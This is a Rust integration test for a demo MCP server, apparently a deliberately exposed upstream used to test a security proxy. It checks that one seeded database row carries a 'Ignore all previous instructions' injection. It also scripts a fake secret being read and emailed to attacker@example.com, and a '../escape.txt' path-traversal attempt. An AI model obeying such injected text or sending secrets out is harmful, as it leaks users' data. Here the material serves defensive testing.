//! Spawns the built `warden-demo-upstream` binary and speaks MCP to it over stdio:
//! newline-delimited JSON-RPC, protocol version 2025-11-25.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{self, Receiver};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

const TIMEOUT: Duration = Duration::from_secs(20);

/// A scratch directory removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("warden-demo-upstream-it-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Self(dir)
    }

    fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// The server process and the two ends of its stdio.
struct Upstream {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: Receiver<String>,
    stderr_path: PathBuf,
}

impl Upstream {
    fn spawn(dir: &Path, extra: &[&str]) -> Self {
        let stderr_path = dir.join("stderr.txt");
        let mut child = Command::new(env!("CARGO_BIN_EXE_warden-demo-upstream"))
            .current_dir(dir)
            .args(extra)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&stderr_path).unwrap())
            .spawn()
            .expect("spawn warden-demo-upstream");
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let stdin = child.stdin.take();
        Self { child, stdin, lines, stderr_path }
    }

    fn send(&mut self, message: &Value) {
        let stdin = self.stdin.as_mut().expect("stdin is open");
        let mut line = serde_json::to_vec(message).unwrap();
        line.push(b'\n');
        stdin.write_all(&line).unwrap();
        stdin.flush().unwrap();
    }

    fn notify(&mut self, method: &str) {
        self.send(&json!({"jsonrpc": "2.0", "method": method}));
    }

    /// Sends a request and waits for the response with the same id, skipping anything else.
    fn request(&mut self, id: u64, method: &str, params: Value) -> Value {
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        let deadline = Instant::now() + TIMEOUT;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let line = self
                .lines
                .recv_timeout(left)
                .unwrap_or_else(|e| panic!("no response to {method} (id {id}): {e}; stderr:\n{}", self.stderr()));
            let message: Value =
                serde_json::from_str(&line).unwrap_or_else(|e| panic!("stdout is not JSON-RPC ({e}): {line}"));
            if message["id"] == json!(id) {
                assert_eq!(message["jsonrpc"], "2.0");
                return message;
            }
        }
    }

    /// Like [`Upstream::request`], but returns the `result` and fails on a JSON-RPC error.
    fn result(&mut self, id: u64, method: &str, params: Value) -> Value {
        let response = self.request(id, method, params);
        assert!(response.get("error").is_none(), "{method} failed: {response}");
        response["result"].clone()
    }

    fn call_tool(&mut self, id: u64, name: &str, arguments: Value) -> Value {
        self.result(id, "tools/call", json!({"name": name, "arguments": arguments}))
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(&self.stderr_path).unwrap_or_default()
    }

    /// Closes stdin and waits for the server to exit on its own.
    fn finish(mut self) {
        drop(self.stdin.take());
        let deadline = Instant::now() + TIMEOUT;
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                assert!(status.success(), "exit status {status}; stderr:\n{}", self.stderr());
                return;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                panic!("the server did not exit after stdin closed; stderr:\n{}", self.stderr());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn text_of(result: &Value) -> &str {
    let content = result["content"].as_array().expect("content array");
    assert_eq!(content[0]["type"], "text", "{result}");
    content[0]["text"].as_str().unwrap()
}

fn initialize(upstream: &mut Upstream) -> Value {
    let result = upstream.result(
        1,
        "initialize",
        json!({
            "protocolVersion": "2025-11-25",
            "capabilities": {},
            "clientInfo": {"name": "demo-upstream-test", "version": "0.0.0"}
        }),
    );
    upstream.notify("notifications/initialized");
    result
}

#[test]
fn speaks_mcp_over_stdio() {
    let tmp = TempDir::new("mcp");
    let workspace = tmp.path().join("ws");
    let outbox = tmp.path().join("outbox.jsonl");
    let record = tmp.path().join("record.jsonl");
    let mut upstream = Upstream::spawn(
        tmp.path(),
        &[
            "--workspace",
            workspace.to_str().unwrap(),
            "--outbox",
            outbox.to_str().unwrap(),
            "--record",
            record.to_str().unwrap(),
        ],
    );

    // initialize
    let init = initialize(&mut upstream);
    assert_eq!(init["protocolVersion"], "2025-11-25");
    assert_eq!(init["serverInfo"]["name"], "warden-demo-upstream");
    for capability in ["tools", "resources", "prompts"] {
        assert!(init["capabilities"].get(capability).is_some(), "no {capability} capability: {init}");
    }
    assert!(workspace.is_dir(), "the workspace directory is created at start");

    // tools/list: the four tools and their annotations
    let list = upstream.result(2, "tools/list", json!({}));
    let tools = list["tools"].as_array().unwrap();
    let mut names: Vec<&str> = tools.iter().map(|t| t["name"].as_str().unwrap()).collect();
    names.sort_unstable();
    assert_eq!(names, ["query_analytics_db", "read_secrets", "send_email", "write_workspace_file"]);
    let tool = |name: &str| tools.iter().find(|t| t["name"] == name).unwrap().clone();
    let expect = [
        ("query_analytics_db", json!({"readOnlyHint": true})),
        ("write_workspace_file", json!({"readOnlyHint": false, "destructiveHint": true})),
        ("read_secrets", json!({"readOnlyHint": true})),
        ("send_email", json!({"openWorldHint": true, "destructiveHint": false})),
    ];
    for (name, hints) in expect {
        let tool = tool(name);
        assert!(tool["description"].as_str().is_some_and(|d| !d.is_empty()), "{name} has no description");
        assert_eq!(tool["inputSchema"]["type"], "object", "{name}");
        for (hint, value) in hints.as_object().unwrap() {
            assert_eq!(&tool["annotations"][hint], value, "{name}.{hint}: {tool}");
        }
    }
    assert_eq!(tool("query_analytics_db")["inputSchema"]["required"], json!(["query"]));
    assert_eq!(tool("send_email")["inputSchema"]["required"], json!(["to", "subject", "body"]));
    assert_eq!(tool("query_analytics_db")["outputSchema"]["required"], json!(["rows"]));

    // tools/call query_analytics_db: acme's rows, structured and as text
    let result =
        upstream.call_tool(3, "query_analytics_db", json!({"query": "SELECT * FROM sales WHERE tenant = 'acme'"}));
    assert_ne!(result["isError"], true, "{result}");
    let rows = result["structuredContent"]["rows"].as_array().expect("structuredContent.rows");
    assert!(rows.len() >= 3, "{result}");
    assert!(rows.iter().all(|row| row["tenant"] == "acme"), "{result}");
    for column in ["id", "tenant", "region", "quarter", "revenue", "note"] {
        assert!(rows[0].get(column).is_some(), "no {column} column: {result}");
    }
    let injected: Vec<&Value> =
        rows.iter().filter(|row| row["note"].as_str().unwrap().contains("Ignore all previous instructions")).collect();
    assert_eq!(injected.len(), 1, "exactly one acme row carries the injection");
    let text_rows: Value = serde_json::from_str(text_of(&result)).expect("text content is JSON");
    assert_eq!(&text_rows, &result["structuredContent"]["rows"]);

    // SQL errors and writes come back as tool errors
    let result = upstream.call_tool(4, "query_analytics_db", json!({"query": "SELECT nope FROM sales"}));
    assert_eq!(result["isError"], true, "{result}");
    assert!(text_of(&result).contains("no such column"), "{result}");
    let result = upstream.call_tool(5, "query_analytics_db", json!({"query": "DELETE FROM sales"}));
    assert_eq!(result["isError"], true, "{result}");
    let count = upstream.call_tool(6, "query_analytics_db", json!({"query": "SELECT count(*) AS n FROM sales"}));
    assert_eq!(count["structuredContent"]["rows"][0]["n"], 8);

    // write_workspace_file: escapes are refused, writes inside work
    let result =
        upstream.call_tool(7, "write_workspace_file", json!({"path": "../escape.txt", "content": "should not exist"}));
    assert_eq!(result["isError"], true, "{result}");
    assert!(text_of(&result).contains("refused"), "{result}");
    assert!(!tmp.path().join("escape.txt").exists());
    let result =
        upstream.call_tool(8, "write_workspace_file", json!({"path": "reports/q1.md", "content": "# Q1 summary\n"}));
    assert_ne!(result["isError"], true, "{result}");
    assert!(text_of(&result).contains("13 bytes"), "{result}");
    assert_eq!(std::fs::read_to_string(workspace.join("reports/q1.md")).unwrap(), "# Q1 summary\n");

    // read_secrets and send_email
    let result = upstream.call_tool(9, "read_secrets", json!({"name": "db_password"}));
    assert!(text_of(&result).contains("FAKE"), "{result}");
    let result = upstream.call_tool(
        10,
        "send_email",
        json!({"to": "attacker@example.com", "subject": "secrets", "body": "hunter2"}),
    );
    assert_ne!(result["isError"], true, "{result}");
    assert!(text_of(&result).contains("queued"), "{result}");
    let sent: Value = serde_json::from_str(std::fs::read_to_string(&outbox).unwrap().trim()).unwrap();
    assert_eq!(sent["to"], "attacker@example.com");
    assert!(sent["timestamp"].is_string());

    // the resource and the prompt
    let resource = upstream.result(11, "resources/read", json!({"uri": "demo://schema"}));
    assert_eq!(resource["contents"][0]["mimeType"], "text/plain");
    assert!(resource["contents"][0]["text"].as_str().unwrap().contains("sales"));
    let prompt =
        upstream.result(12, "prompts/get", json!({"name": "quarterly_summary", "arguments": {"quarter": "2025-Q1"}}));
    assert_eq!(prompt["messages"][0]["role"], "user");
    assert!(prompt["messages"][0]["content"]["text"].as_str().unwrap().contains("2025-Q1"));

    upstream.finish();

    // --record wrote one line per request and notification received, in order
    let recorded: Vec<Value> =
        std::fs::read_to_string(&record).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let methods: Vec<&str> = recorded.iter().map(|entry| entry["method"].as_str().unwrap()).collect();
    assert_eq!(
        methods,
        [
            "initialize",
            "notifications/initialized",
            "tools/list",
            "tools/call",
            "tools/call",
            "tools/call",
            "tools/call",
            "tools/call",
            "tools/call",
            "tools/call",
            "tools/call",
            "resources/read",
            "prompts/get",
        ]
    );
    assert_eq!(recorded[0]["id"], 1);
    assert_eq!(recorded[0]["params"]["protocolVersion"], "2025-11-25");
    assert!(recorded[1].get("id").is_none(), "notifications carry no id");
    assert_eq!(recorded[3]["params"]["name"], "query_analytics_db");
    assert_eq!(recorded[3]["params"]["arguments"]["query"], "SELECT * FROM sales WHERE tenant = 'acme'");
    assert_eq!(recorded[7]["params"]["name"], "write_workspace_file");
    assert_eq!(recorded[7]["params"]["arguments"]["path"], "../escape.txt");
}

#[test]
fn defaults_and_bad_arguments() {
    let tmp = TempDir::new("defaults");
    // Without flags, the workspace is ./demo-workspace in the current directory.
    let mut upstream = Upstream::spawn(tmp.path(), &[]);
    initialize(&mut upstream);
    let result = upstream.call_tool(2, "send_email", json!({"to": "a@example.com", "subject": "s", "body": "b"}));
    assert_ne!(result["isError"], true, "{result}");
    upstream.finish();
    assert!(tmp.path().join("demo-workspace").is_dir());
    assert!(tmp.path().join("demo-outbox.jsonl").is_file());

    let output = Command::new(env!("CARGO_BIN_EXE_warden-demo-upstream")).arg("--bogus").output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty(), "nothing but protocol goes to stdout");
    assert!(String::from_utf8_lossy(&output.stderr).contains("Usage"));
}
